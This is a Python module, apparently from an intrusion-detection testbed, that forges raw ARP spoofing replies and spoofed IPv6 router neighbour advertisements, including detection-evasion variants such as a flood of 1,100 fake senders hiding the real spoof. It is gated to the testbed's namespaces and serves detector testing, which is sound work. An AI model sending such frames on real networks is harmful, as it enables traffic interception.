"""Frames that no tool at hand makes, sent from a host of the home: `python -m testbed.forge KIND ADDRESS ...`.

Sends nothing outside the namespaces that the testbed made.
"""

import os
import socket
import struct
import sys
import time
from collections.abc import Iterator
from ipaddress import ip_address
from pathlib import Path

ALL = b"\xff" * 6
GAP_S = 0.002


def arp(mac: bytes, inside: bytes, sender: str, target: str, operation: int = 2) -> bytes:
    """An ARP frame from `mac` whose sender inside is `inside`, to everybody."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + inside + ip_address(sender).packed
    return ALL + mac + b"\x08\x06" + body + bytes(6) + ip_address(target).packed


def arp_group(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """A reply with a group address as sender, which Linux takes."""
    yield arp(mac, bytes.fromhex("01005e000001"), victim, target)


def arp_other(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """A reply with a third device's MAC address inside."""
    yield arp(mac, bytes.fromhex("020000000033"), victim, target)


def arp_crowd(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """1,100 invented senders, then the attack they are to hide."""
    for n in range(1100):
        made = b"\x02\x00\x00\x00" + struct.pack("!H", n)
        yield arp(made, made, f"10.77.{n >> 8}.{n & 255}", target, 1)
    yield arp(mac, mac, victim, target)


def arp_asking(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """Sixty replies, each after asking oneself."""
    for _ in range(60):
        yield arp(mac, mac, "0.0.0.0", victim, 1)
        yield arp(mac, mac, victim, target)


def neighbour(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """Ten advertisements of a router's IPv6 address that nobody asked for."""
    source, to = ip_address("fe80::1").packed, ip_address("ff02::1").packed
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + source + b"\x02\x01" + mac
    pseudo = source + to + struct.pack("!II", len(body), 58) + body
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
    for _ in range(10):
        yield b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + head + source + to + body


KINDS = {
    "arp-group": arp_group, "arp-other": arp_other, "arp-crowd": arp_crowd, "arp-asking": arp_asking,
    "neighbour": neighbour,
}  # fmt: skip


def main(kind: str, victim: str, target: str) -> int:
    """Send the frames of one kind from eth0, as if `victim` spoke to `target`."""
    if "TLIDS_TESTBED_OUTSIDE" not in os.environ:
        print("forge: expected the testbed's namespaces, found none: nothing was sent", file=sys.stderr)
        return 2
    mac = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        for frame in KINDS[kind](mac, victim, target):
            wire.send(frame)
            time.sleep(GAP_S)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:4]))
